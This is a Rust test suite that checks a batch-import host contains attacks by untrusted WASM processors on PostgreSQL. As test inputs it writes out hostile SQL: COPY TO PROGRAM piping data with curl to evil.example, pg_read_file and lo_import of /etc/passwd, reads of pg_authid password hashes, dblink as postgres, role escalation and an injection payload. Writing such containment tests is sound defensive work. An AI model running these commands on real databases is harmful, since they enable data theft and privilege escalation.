//! The hostile-processor suite: each test is one attack by an untrusted processor. Every test
//! asserts containment: the attacking item fails with a clear reason, the host keeps going (the
//! next item succeeds, on a session exactly as clean as before: same login, same settings, nothing
//! left behind), and the framework tables (other batches' rows) and every table the processor was
//! not granted are unchanged.
//!
//! Every test runs twice: with the host logged in as a superuser, and as a login that owns the
//! database but is no superuser. Attacks on the database wall itself also run with the SQL gate
//! switched off (`attack_wall`), so that PostgreSQL's own authentication is shown to contain them
//! alone; with the gate on they are refused before they reach the server.
//!
//! The processor here may select, insert and update `probe_rows` — nothing else: not delete, not
//! `secrets`, not `customers`, not Ingot's own tables.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use ingot::batch::{BatchManager, CreateOptions, ProcessOptions};
use ingot::input::InputSource;
use serde_json::{Value, json};
use sqlx::Row;
use support::{Processors, TestDb, guest};
use uuid::Uuid;

const SCHEMA: &str = "
    CREATE TABLE probe_rows (id serial PRIMARY KEY, label text UNIQUE NOT NULL);
    CREATE TABLE secrets (id int PRIMARY KEY, value text NOT NULL);
    INSERT INTO secrets VALUES (1, 'the launch code');
    CREATE TABLE customers (id serial PRIMARY KEY, email text NOT NULL);
    INSERT INTO customers (email) VALUES ('someone@example.com');
    CREATE TABLE parents (id int PRIMARY KEY);
    CREATE TABLE children (id serial PRIMARY KEY,
                           parent int NOT NULL REFERENCES parents DEFERRABLE INITIALLY DEFERRED);";

const MANIFEST: &str = "
    [grants]
    probe_rows = [\"select\", \"insert\", \"update\"]
    children = [\"insert\"]
    [limits]
    timeout_ms = 500
    memory_mb = 32
    statement_timeout_ms = 300";

/// Who the host logs in as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Host {
    /// The default setup: the host is the superuser `postgres`.
    Superuser,
    /// Least privilege: the host owns the database and may create roles, nothing more.
    Owner,
}

/// Every attack is tried against both.
const HOSTS: [Host; 2] = [Host::Superuser, Host::Owner];

/// What the processor's session looks like from inside: who it is, the settings the host relies
/// on, and everything a processor could leave behind. An item runs this after each attack; it must
/// see exactly what it saw before any attack.
const SESSION: &str = "SELECT current_user::text AS current_user, session_user::text AS session_user,
       current_setting('search_path') AS search_path,
       current_setting('standard_conforming_strings') AS standard_conforming_strings,
       current_setting('client_encoding') AS client_encoding,
       current_setting('default_transaction_read_only') AS default_transaction_read_only,
       current_setting('transaction_read_only') AS transaction_read_only,
       current_setting('default_transaction_isolation') AS default_transaction_isolation,
       current_setting('statement_timeout') AS statement_timeout,
       current_setting('lock_timeout') AS lock_timeout,
       current_setting('idle_in_transaction_session_timeout') AS idle_in_transaction_session_timeout,
       current_setting('exit_on_error') AS exit_on_error,
       current_setting('enable_indexscan') AS enable_indexscan,
       current_setting('work_mem') AS work_mem,
       (SELECT count(*) FROM pg_locks WHERE pid = pg_backend_pid() AND locktype = 'advisory') AS advisory_locks,
       (SELECT count(*) FROM pg_prepared_statements WHERE from_sql) AS prepared_statements,
       (SELECT count(*) FROM pg_cursors WHERE is_holdable) AS held_cursors,
       (SELECT count(*) FROM pg_listening_channels()) AS listening,
       (SELECT count(*) FROM pg_class WHERE relpersistence = 't') AS temporary_tables,
       (SELECT count(*) FROM pg_prepared_statements
        WHERE statement LIKE '%.ingot\\_%' AND statement NOT LIKE '%pg_prepared_statements%'
          -- The processor's own statements, sent with the server's row check around them.
          AND statement NOT LIKE '%.ingot\\_row\\_fits(ingot\\_rows, %') AS host_statements";

fn session() -> Value {
    query(SESSION)
}

struct Arena {
    db: TestDb,
    /// The host as it runs: every processor statement goes through the SQL gate.
    manager: BatchManager,
    /// The same host with the gate switched off: only the login role stands in the way.
    wall: BatchManager,
    /// The host's own login.
    host_login: String,
    /// The processor's role.
    role: String,
    /// An earlier, innocent batch whose rows the attacks must not touch.
    innocent: Uuid,
    /// What the processor's session looked like before any attack.
    clean_session: Value,
    _processors: Processors,
    files: tempfile::TempDir,
}

/// Everything an attack must not change: other batches' framework rows, and the tables the
/// processor was not granted.
async fn fingerprint(db: &TestDb, except: Option<Uuid>) -> Vec<Option<String>> {
    let except = except.unwrap_or_else(Uuid::nil);
    let mut out = Vec::new();
    for sql in [
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_batches t WHERE id <> $1",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_batch_items t WHERE batch_id <> $1",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_logs t WHERE batch_id <> $1",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM import_batch_counters t WHERE batch_id <> $1",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM ingot_processor_roles t WHERE $1 IS NOT NULL",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM secrets t WHERE $1 IS NOT NULL",
        "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM customers t WHERE $1 IS NOT NULL",
    ] {
        out.push(sqlx::query_scalar(sql).bind(except).fetch_one(&db.pool).await.unwrap());
    }
    // Superusers, and this test's own roles with their attributes and memberships.
    let roles = "SELECT md5(string_agg(r.rolname::text || r.rolsuper || r.rolcreaterole || r.rolcanlogin || r.rolbypassrls
                        || coalesce((SELECT string_agg(m.roleid::regrole::text, ',' ORDER BY 1) FROM pg_auth_members m
                                     WHERE m.member = r.oid), ''), '|' ORDER BY r.rolname))
                 FROM pg_roles r WHERE r.rolsuper OR starts_with(r.rolname, $1)";
    out.push(sqlx::query_scalar(roles).bind(db.role_prefix()).fetch_one(&db.pool).await.unwrap());
    out
}

impl Arena {
    async fn new(host: Host) -> Arena {
        Arena::with_probe(host, &guest("probe")).await
    }

    /// The arena around another language's probe (same modes, same manifest).
    async fn with_probe(host: Host, probe: &std::path::Path) -> Arena {
        println!("the host logs in as: {host:?}, the probe is {}", probe.display());
        let db = match host {
            Host::Superuser => TestDb::new().await,
            Host::Owner => TestDb::with_owner().await,
        };
        db.apply(SCHEMA).await;
        let processors = Processors::new(&[("probe", probe, Some(MANIFEST))]);
        let manager = support::manager(&db, &processors, support::runtime());
        let wall = manager.clone().without_sql_gate();
        let host_login = db.login().await;
        let role = ingot::context::grants::role_name(&db.role_prefix(), "probe");
        let mut arena = Arena {
            db,
            manager,
            wall,
            host_login,
            role,
            innocent: Uuid::nil(),
            clean_session: Value::Null,
            _processors: processors,
            files: tempfile::tempdir().unwrap(),
        };
        arena.innocent = arena
            .run(&[
                json!({"mode": "log", "message": "innocent"}),
                json!({"mode": "invalid", "message": "old"}),
                session(),
            ])
            .await;
        arena.clean_session = arena.item(arena.innocent, 2).await.1.unwrap();
        assert_eq!(arena.clean_session[0]["session_user"], json!(arena.role), "the processor's own login");
        assert_eq!(arena.clean_session[0]["current_user"], json!(arena.role));
        assert_eq!(arena.clean_session[0]["host_statements"], 0, "the host keeps no statement prepared here");
        arena
    }

    async fn run(&self, items: &[Value]) -> Uuid {
        self.run_with(&self.manager, items).await
    }

    async fn run_with(&self, manager: &BatchManager, items: &[Value]) -> Uuid {
        let path = self.files.path().join(format!("{}.ndjson", Uuid::new_v4().simple()));
        std::fs::write(&path, items.iter().map(|i| format!("{i}\n")).collect::<String>()).unwrap();
        let source = InputSource::from_arg(path.to_str().unwrap(), None).unwrap();
        let summary = manager
            .run("probe", source, &CreateOptions::default(), &ProcessOptions::workers(1), None)
            .await
            .expect("the host survives the attack");
        summary.batch_id
    }

    /// An item's status, error code and error message.
    async fn failure(&self, batch: Uuid, index: i64) -> (String, Option<String>, Option<String>) {
        let row = sqlx::query(
            "SELECT status, error_code, error_message FROM import_batch_items WHERE batch_id = $1 AND item_index = $2",
        )
        .bind(batch)
        .bind(index)
        .fetch_one(&self.db.pool)
        .await
        .unwrap();
        (row.get("status"), row.get("error_code"), row.get("error_message"))
    }

    /// Runs the attack like [`attack`](Self::attack) and returns the attack item's error code
    /// and message; the batch the attack ran in is the newest.
    async fn attack_coded(&self, attack: Value) -> (String, String) {
        let reason = self.attack(attack).await;
        let batch: Uuid =
            sqlx::query_scalar("SELECT id FROM import_batches ORDER BY created_at DESC, id DESC LIMIT 1")
                .fetch_one(&self.db.pool)
                .await
                .unwrap();
        let (_, code, _) = self.failure(batch, 0).await;
        (code.expect("an error code"), reason)
    }

    /// An item's status, processed data and error message.
    async fn item(&self, batch: Uuid, index: i64) -> (String, Option<Value>, Option<String>) {
        let row = sqlx::query(
            "SELECT status, processed_data, error_message FROM import_batch_items WHERE batch_id = $1 AND item_index = $2",
        )
        .bind(batch)
        .bind(index)
        .fetch_one(&self.db.pool)
        .await
        .unwrap();
        (row.get("status"), row.get("processed_data"), row.get("error_message"))
    }

    /// Runs the attack (through the gate) then innocent items; returns the attack's recorded
    /// error message after checking containment.
    async fn attack(&self, attack: Value) -> String {
        self.attack_with(&self.manager, attack).await
    }

    /// Runs the attack with the SQL gate off: PostgreSQL's own wall must contain it alone.
    async fn attack_wall(&self, attack: Value) -> String {
        self.attack_with(&self.wall, attack).await
    }

    async fn attack_with(&self, manager: &BatchManager, attack: Value) -> String {
        let (status, reason) = self.contain(manager, attack).await;
        assert_eq!(status, "failed", "the attack must fail its item");
        reason.expect("a reason")
    }

    /// Runs the attack then innocent items, and checks containment whatever the attack's own
    /// item came to: the next items succeed on a session as clean as before, and nothing outside
    /// the batch changed. Returns the attack item's status and error.
    async fn contain(&self, manager: &BatchManager, attack: Value) -> (String, Option<String>) {
        let before = fingerprint(&self.db, None).await;
        let label = format!("after-{}", Uuid::new_v4().simple());
        let batch = self
            .run_with(
                manager,
                &[attack, sql(&format!("INSERT INTO probe_rows (label) VALUES ('{label}')")), session()],
            )
            .await;
        let (next, _, error) = self.item(batch, 1).await;
        assert_eq!(next, "completed", "the next item must succeed: {error:?}");
        assert_eq!(
            self.db.scalar_i64(&format!("SELECT count(*) FROM probe_rows WHERE label = '{label}'")).await,
            1
        );
        let (status, after, error) = self.item(batch, 2).await;
        assert_eq!(status, "completed", "{error:?}");
        assert_eq!(
            after,
            Some(self.clean_session.clone()),
            "the processor's session must be as clean as before"
        );
        assert_eq!(
            fingerprint(&self.db, Some(batch)).await,
            before,
            "framework tables or ungranted tables changed"
        );
        let batch_status: String = sqlx::query_scalar("SELECT status FROM import_batches WHERE id = $1")
            .bind(batch)
            .fetch_one(&self.db.pool)
            .await
            .unwrap();
        assert_eq!(batch_status, "completed", "the batch carries on");
        // Large objects the processor made are gone once the batch is (they cannot touch the
        // host's statements, so they are not looked for after every item).
        assert_eq!(self.db.scalar_i64("SELECT count(*) FROM pg_largeobject_metadata").await, 0);
        let (status, _, error) = self.item(batch, 0).await;
        (status, error)
    }
}

fn sql(statement: &str) -> Value {
    json!({"mode": "sql", "sql": statement})
}

fn query(statement: &str) -> Value {
    json!({"mode": "sql", "sql": statement, "query": true})
}

fn assert_reason(reason: &str, expected: &[&str]) {
    for part in expected {
        assert!(reason.contains(part), "the reason {reason:?} should mention {part:?}");
    }
}

// The sandbox: time, memory, output, WASI.

#[tokio::test]
async fn hostile_infinite_loop_is_stopped_by_the_time_limit() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(json!({"mode": "loop"})).await;
        assert_reason(&reason, &["500 ms time limit"]);
    }
}

#[tokio::test]
async fn hostile_deep_recursion_traps_and_is_contained() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(json!({"mode": "recurse"})).await;
        assert_reason(&reason, &["trapped", "stack"]);
    }
}

#[tokio::test]
async fn hostile_memory_bomb_is_stopped_at_the_memory_cap() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(json!({"mode": "alloc"})).await;
        assert_reason(&reason, &["32 MiB memory limit"]);
    }
}

#[tokio::test]
async fn hostile_panic_is_contained() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(json!({"mode": "panic", "message": "gotcha"})).await;
        assert_reason(&reason, &["the processor panicked at ", "probe panic: gotcha"]);
    }
}

#[tokio::test]
async fn hostile_log_flood_is_stopped_at_the_log_cap() {
    for host in HOSTS {
        let reason =
            Arena::new(host).await.attack(json!({"mode": "log", "lines": 100_000, "message": "spam"})).await;
        assert_reason(&reason, &["log lines per item"]);
    }
}

#[tokio::test]
async fn hostile_oversized_log_line_is_stopped_at_the_message_cap() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(json!({"mode": "big_log", "bytes": 1_000_000})).await;
        assert_reason(&reason, &["log message size"]);
    }
}

#[tokio::test]
async fn hostile_huge_outcome_is_refused_at_the_outcome_cap() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(json!({"mode": "huge_outcome", "bytes": 4_000_000})).await;
        assert_reason(&reason, &["outcome size"]);
    }
}

#[tokio::test]
async fn hostile_stdout_flood_is_truncated_and_the_host_carries_on() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let before = fingerprint(&arena.db, None).await;
        // 5 MB in 10 KB lines: the flood's size is the point here, not its number of writes (which
        // the stdout/stderr interleaving test covers), and 500 writes fit the time limit of a debug
        // build on a loaded machine.
        let flood = json!({"mode": "print", "bytes": 5_000_000, "line": 10_000});
        let batch = arena.run(&[flood, json!({"mode": "ok"})]).await;
        let kept = arena.db.scalar_i64(&format!("SELECT coalesce(sum(length(message)), 0) FROM import_logs WHERE batch_id = '{batch}' AND source = 'stdout'")).await;
        assert!(kept <= 64 << 10, "kept {kept} bytes of stdout");
        assert_eq!(
            arena
                .db
                .scalar_i64(&format!(
                    "SELECT count(*) FROM import_batch_items WHERE batch_id = '{batch}' AND status = 'completed'"
                ))
                .await,
            2
        );
        assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
    }
}

#[tokio::test]
async fn hostile_file_read_is_denied() {
    for host in HOSTS {
        let reason =
            Arena::new(host).await.attack(json!({"mode": "file", "path": "/etc/passwd", "must": true})).await;
        assert_reason(&reason, &["file was refused", "Err("]);
    }
}

#[tokio::test]
async fn hostile_file_write_is_denied() {
    for host in HOSTS {
        let reason = Arena::new(host)
            .await
            .attack(json!({"mode": "write_file", "path": "/tmp/ingot-hostile", "must": true}))
            .await;
        assert_reason(&reason, &["write_file was refused"]);
        assert!(!std::path::Path::new("/tmp/ingot-hostile").exists());
    }
}

#[tokio::test]
async fn hostile_environment_read_finds_nothing() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(json!({"mode": "env", "must": true})).await;
        assert_reason(&reason, &["the environment is empty"]);
    }
}

#[tokio::test]
async fn hostile_socket_connect_is_denied() {
    for host in HOSTS {
        let reason = Arena::new(host)
            .await
            .attack(json!({"mode": "socket", "addr": "127.0.0.1:5432", "must": true}))
            .await;
        assert_reason(&reason, &["socket was refused", "PermissionDenied"]);
    }
}

// The database session: role, transaction and settings cannot be changed.

#[tokio::test]
async fn hostile_reset_role_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("RESET ROLE")).await;
        assert_reason(&reason, &["refused by the SQL gate", "SET, RESET"]);
    }
}

#[tokio::test]
async fn hostile_set_role_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("SET ROLE postgres")).await;
        assert_reason(&reason, &["refused by the SQL gate", "SET, RESET"]);
    }
}

#[tokio::test]
async fn hostile_set_session_authorization_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("SET SESSION AUTHORIZATION postgres")).await;
        assert_reason(&reason, &["refused by the SQL gate"]);
    }
}

#[tokio::test]
async fn hostile_set_config_role_is_refused() {
    for host in HOSTS {
        let reason =
            Arena::new(host).await.attack(query("SELECT set_config('role', 'postgres', true)")).await;
        assert_reason(&reason, &["refused by the SQL gate", "set_config()"]);
    }
}

#[tokio::test]
async fn hostile_set_statement_timeout_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("SET statement_timeout = 0")).await;
        assert_reason(&reason, &["refused by the SQL gate"]);
    }
}

#[tokio::test]
async fn hostile_commit_then_write_is_refused() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let reason = arena.attack(sql("COMMIT")).await;
        assert_reason(&reason, &["refused by the SQL gate", "transaction control"]);
        let reason = arena.attack(sql("COMMIT; INSERT INTO secrets VALUES (2, 'planted')")).await;
        assert_reason(&reason, &["refused by the SQL gate", "2 statements"]);
    }
}

#[tokio::test]
async fn hostile_rollback_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("ROLLBACK")).await;
        assert_reason(&reason, &["refused by the SQL gate", "transaction control"]);
    }
}

#[tokio::test]
async fn hostile_savepoint_and_release_are_refused() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        assert_reason(
            &arena.attack(sql("SAVEPOINT escape")).await,
            &["refused by the SQL gate", "transaction control"],
        );
        assert_reason(
            &arena.attack(sql("RELEASE SAVEPOINT ingot_processor")).await,
            &["refused by the SQL gate", "transaction control"],
        );
    }
}

#[tokio::test]
async fn hostile_multi_statement_string_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("SELECT 1; DELETE FROM secrets")).await;
        assert_reason(&reason, &["refused by the SQL gate", "2 statements"]);
    }
}

#[tokio::test]
async fn hostile_do_block_is_refused() {
    for host in HOSTS {
        let reason =
            Arena::new(host).await.attack(sql("DO $$ BEGIN EXECUTE 'DELETE FROM secrets'; END $$")).await;
        assert_reason(&reason, &["refused by the SQL gate", "DO blocks run code outside the gate"]);
    }
}

#[tokio::test]
async fn hostile_call_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("CALL do_anything()")).await;
        assert_reason(&reason, &["refused by the SQL gate", "CALL runs procedures"]);
    }
}

#[tokio::test]
async fn hostile_copy_to_program_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host)
            .await
            .attack(sql("COPY secrets TO PROGRAM 'curl -d @- http://evil.example'"))
            .await;
        assert_reason(&reason, &["refused by the SQL gate", "COPY reads and writes files and programs"]);
    }
}

#[tokio::test]
async fn hostile_copy_from_a_file_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("COPY probe_rows (label) FROM '/etc/passwd'")).await;
        assert_reason(&reason, &["refused by the SQL gate", "COPY reads and writes files and programs"]);
    }
}

#[tokio::test]
async fn hostile_listen_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("LISTEN ingot_batches")).await;
        assert_reason(
            &reason,
            &["refused by the SQL gate", "LISTEN, NOTIFY and UNLISTEN reach other sessions"],
        );
    }
}

#[tokio::test]
async fn hostile_notify_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("NOTIFY ingot_batches, 'fake'")).await;
        assert_reason(
            &reason,
            &["refused by the SQL gate", "LISTEN, NOTIFY and UNLISTEN reach other sessions"],
        );
    }
}

#[tokio::test]
async fn hostile_prepare_and_execute_are_refused() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        assert_reason(
            &arena.attack(sql("PREPARE p AS DELETE FROM secrets")).await,
            &["refused by the SQL gate", "PREPARE, EXECUTE and DEALLOCATE manage session statements"],
        );
        assert_reason(
            &arena.attack(sql("EXECUTE p")).await,
            &["refused by the SQL gate", "PREPARE, EXECUTE and DEALLOCATE manage session statements"],
        );
    }
}

#[tokio::test]
async fn hostile_lock_table_is_refused() {
    for host in HOSTS {
        let reason =
            Arena::new(host).await.attack(sql("LOCK TABLE import_batches IN ACCESS EXCLUSIVE MODE")).await;
        assert_reason(&reason, &["refused by the SQL gate", "LOCK TABLE holds locks beyond the statement"]);
    }
}

#[tokio::test]
async fn hostile_advisory_lock_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(query("SELECT pg_advisory_lock(42)")).await;
        assert_reason(&reason, &["refused by the SQL gate", "pg_advisory_lock() changes session state"]);
    }
}

#[tokio::test]
async fn hostile_vacuum_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("VACUUM FULL import_batch_items")).await;
        assert_reason(&reason, &["refused by the SQL gate", "VACUUM and ANALYZE are maintenance"]);
    }
}

#[tokio::test]
async fn hostile_explain_analyze_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("EXPLAIN ANALYZE DELETE FROM secrets")).await;
        assert_reason(
            &reason,
            &["refused by the SQL gate", "EXPLAIN can execute its statement outside the gate"],
        );
    }
}

// DDL.

#[tokio::test]
async fn hostile_create_table_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("CREATE TABLE loot AS SELECT * FROM secrets")).await;
        assert_reason(&reason, &["refused by the SQL gate", "DDL"]);
    }
}

#[tokio::test]
async fn hostile_drop_table_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("DROP TABLE customers")).await;
        assert_reason(&reason, &["refused by the SQL gate", "DDL"]);
    }
}

#[tokio::test]
async fn hostile_truncate_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("TRUNCATE secrets")).await;
        assert_reason(&reason, &["refused by the SQL gate", "TRUNCATE is DDL-like"]);
    }
}

#[tokio::test]
async fn hostile_select_into_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("SELECT * INTO loot FROM probe_rows")).await;
        assert_reason(&reason, &["refused by the SQL gate", "SELECT … INTO"]);
    }
}

#[tokio::test]
async fn hostile_grant_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("GRANT ALL ON secrets TO PUBLIC")).await;
        assert_reason(&reason, &["refused by the SQL gate", "GRANT and REVOKE change privileges"]);
    }
}

// Tables: only what the manifest grants.

#[tokio::test]
async fn hostile_reading_import_batch_items_is_denied() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let attack = query("SELECT source_data FROM import_batch_items");
        assert_reason(
            &arena.attack(attack.clone()).await,
            &["refused by the SQL gate", "Ingot's own tables"],
        );
        assert_reason(
            &arena.attack_wall(attack).await,
            &["permission denied for table import_batch_items", "may use only what"],
        );
    }
}

#[tokio::test]
async fn hostile_updating_import_batches_is_denied() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let attack =
            sql("UPDATE import_batches SET status = 'failed', error_message = 'forged', total_items = 999");
        assert_reason(
            &arena.attack(attack.clone()).await,
            &["refused by the SQL gate", "Ingot's own tables"],
        );
        assert_reason(&arena.attack_wall(attack).await, &["permission denied for table import_batches"]);
    }
}

#[tokio::test]
async fn hostile_inserting_into_import_logs_is_denied() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let attack = sql(
            "INSERT INTO import_logs (batch_id, log_level, message) VALUES (gen_random_uuid(), 'error', 'forged')",
        );
        assert_reason(
            &arena.attack(attack.clone()).await,
            &["refused by the SQL gate", "Ingot's own tables"],
        );
        assert_reason(&arena.attack_wall(attack).await, &["permission denied for table import_logs"]);
    }
}

#[tokio::test]
async fn hostile_forging_counters_is_denied() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let attack = sql("UPDATE import_batch_counters SET completed = completed + 1000");
        assert_reason(
            &arena.attack(attack.clone()).await,
            &["refused by the SQL gate", "Ingot's own tables"],
        );
        assert_reason(
            &arena.attack_wall(attack).await,
            &["permission denied for table import_batch_counters"],
        );
    }
}

#[tokio::test]
async fn hostile_writing_a_table_not_granted_is_denied() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(sql("INSERT INTO secrets VALUES (2, 'planted')")).await;
        assert_reason(&reason, &["permission denied for table secrets"]);
    }
}

#[tokio::test]
async fn hostile_reading_another_processors_table_is_denied() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(query("SELECT email FROM customers")).await;
        assert_reason(&reason, &["permission denied for table customers"]);
    }
}

#[tokio::test]
async fn hostile_delete_not_granted_is_denied() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        arena.run(&[sql("INSERT INTO probe_rows (label) VALUES ('keep me')")]).await;
        let reason = arena.attack(sql("DELETE FROM probe_rows")).await;
        assert_reason(&reason, &["permission denied for table probe_rows"]);
        assert_eq!(arena.db.scalar_i64("SELECT count(*) FROM probe_rows WHERE label = 'keep me'").await, 1);
    }
}

#[tokio::test]
async fn hostile_write_through_a_data_modifying_cte_is_denied() {
    for host in HOSTS {
        let reason = Arena::new(host)
            .await
            .attack(query("WITH gone AS (DELETE FROM secrets RETURNING *) SELECT * FROM gone"))
            .await;
        assert_reason(&reason, &["permission denied for table secrets"]);
    }
}

#[tokio::test]
async fn hostile_copying_framework_data_into_a_granted_table_is_denied() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let attack = sql("INSERT INTO probe_rows (label) SELECT source_data::text FROM import_batch_items");
        assert_reason(
            &arena.attack(attack.clone()).await,
            &["refused by the SQL gate", "Ingot's own tables"],
        );
        assert_reason(&arena.attack_wall(attack).await, &["permission denied for table import_batch_items"]);
    }
}

#[tokio::test]
async fn hostile_reading_pg_authid_is_denied() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(query("SELECT rolname, rolpassword FROM pg_authid")).await;
        assert_reason(&reason, &["permission denied for table pg_authid"]);
    }
}

// Functions that reach outside the database or other sessions.

#[tokio::test]
async fn hostile_pg_read_file_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(query("SELECT pg_read_file('/etc/passwd')")).await;
        assert_reason(&reason, &["refused by the SQL gate", "pg_read_file()"]);
    }
}

#[tokio::test]
async fn hostile_lo_import_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(query("SELECT lo_import('/etc/passwd')")).await;
        assert_reason(&reason, &["refused by the SQL gate", "lo_import()"]);
    }
}

#[tokio::test]
async fn hostile_dblink_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host)
            .await
            .attack(query(
                "SELECT * FROM dblink('host=127.0.0.1 user=postgres', 'DELETE FROM secrets') AS t(x text)",
            ))
            .await;
        assert_reason(&reason, &["refused by the SQL gate", "dblink()"]);
    }
}

#[tokio::test]
async fn hostile_query_to_xml_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host)
            .await
            .attack(query("SELECT query_to_xml('SELECT * FROM secrets', true, false, '')"))
            .await;
        assert_reason(&reason, &["refused by the SQL gate", "query_to_xml()"]);
    }
}

#[tokio::test]
async fn hostile_terminating_other_backends_is_refused() {
    for host in HOSTS {
        let reason = Arena::new(host)
            .await
            .attack(query("SELECT pg_terminate_backend(pid) FROM pg_stat_activity"))
            .await;
        assert_reason(&reason, &["refused by the SQL gate", "pg_terminate_backend()"]);
    }
}

#[tokio::test]
async fn hostile_pg_sleep_past_the_statement_timeout_is_cancelled() {
    for host in HOSTS {
        let reason = Arena::new(host).await.attack(query("SELECT pg_sleep(30)")).await;
        assert_reason(&reason, &["statement timeout", "57014"]);
    }
}

// Data the processor controls.

#[tokio::test]
async fn hostile_parameter_carrying_sql_is_stored_as_text() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let payload = "x'); DELETE FROM secrets; --";
        let before = fingerprint(&arena.db, None).await;
        let batch = arena
            .run(&[
                json!({"mode": "sql", "sql": "INSERT INTO probe_rows (label) VALUES ($1)", "params": [payload]}),
            ])
            .await;
        assert_eq!(
            arena
                .db
                .scalar_i64(&format!(
                    "SELECT count(*) FROM probe_rows WHERE label = '{}'",
                    payload.replace('\'', "''")
                ))
                .await,
            1
        );
        assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
    }
}

#[tokio::test]
async fn hostile_nul_characters_cannot_break_the_hosts_own_writes() {
    for host in HOSTS {
        let reason = Arena::new(host)
            .await
            .attack(json!({"mode": "invalid", "message": "evil<NUL>message", "code": "nul<NUL>code"}))
            .await;
        assert_eq!(reason, "evil\u{FFFD}message");
    }
}

#[tokio::test]
async fn hostile_nul_characters_in_metadata_cannot_break_the_hosts_own_writes() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let before = fingerprint(&arena.db, None).await;
        let batch = arena
            .run(&[
                json!({"mode": "metadata_set", "key": "k<NUL>ey", "value": "v<NUL>alue"}),
                json!({"mode": "ok"}),
            ])
            .await;
        let metadata: Value = sqlx::query_scalar("SELECT metadata FROM import_batches WHERE id = $1")
            .bind(batch)
            .fetch_one(&arena.db.pool)
            .await
            .unwrap();
        assert_eq!(metadata["k\u{FFFD}ey"], "v\u{FFFD}alue");
        assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
    }
}

#[tokio::test]
async fn hostile_nul_characters_in_a_batch_rejection_cannot_break_the_hosts_own_writes() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let path = arena.files.path().join("reject.ndjson");
        std::fs::write(&path, "{\"mode\": \"ok\"}\n").unwrap();
        let create = CreateOptions { metadata: Some(json!({"reject": "no<NUL>way"})), ..Default::default() };
        let summary = arena
            .manager
            .run(
                "probe",
                InputSource::from_arg(path.to_str().unwrap(), None).unwrap(),
                &create,
                &ProcessOptions::workers(1),
                None,
            )
            .await
            .expect("the host survives");
        assert_eq!(summary.status, ingot::store::BatchStatus::Failed);
        assert!(summary.error_message.unwrap().contains("no\u{FFFD}way"));
        // And the next batch runs.
        arena.attack(json!({"mode": "invalid", "message": "ordinary"})).await;
    }
}

// The database wall: the processor's connection logs in as its own role, so no SQL path can make
// it anyone else. Each attack is tried through the gate (refused there) and with the gate off
// (PostgreSQL refuses it).

/// An escalation followed by its payoff: forging counters, which only a role above the
/// processor's may do. An escalation that seems to pass silently still fails at the payoff.
fn escalate(steps: &[&str]) -> Value {
    let mut statements: Vec<&str> = steps.to_vec();
    statements.push("UPDATE import_batch_counters SET completed = completed + 1000");
    json!({"mode": "sql_sequence", "query": true, "statements": statements})
}

/// The wall's answer to any escalation: PostgreSQL's own refusal.
fn assert_denied(reason: &str) {
    assert!(
        reason.contains("permission denied to set role")
            || reason.contains("permission denied to set session authorization")
            || reason.contains("permission denied for table import_batch_counters"),
        "the reason {reason:?} should be PostgreSQL refusing the escalation"
    );
}

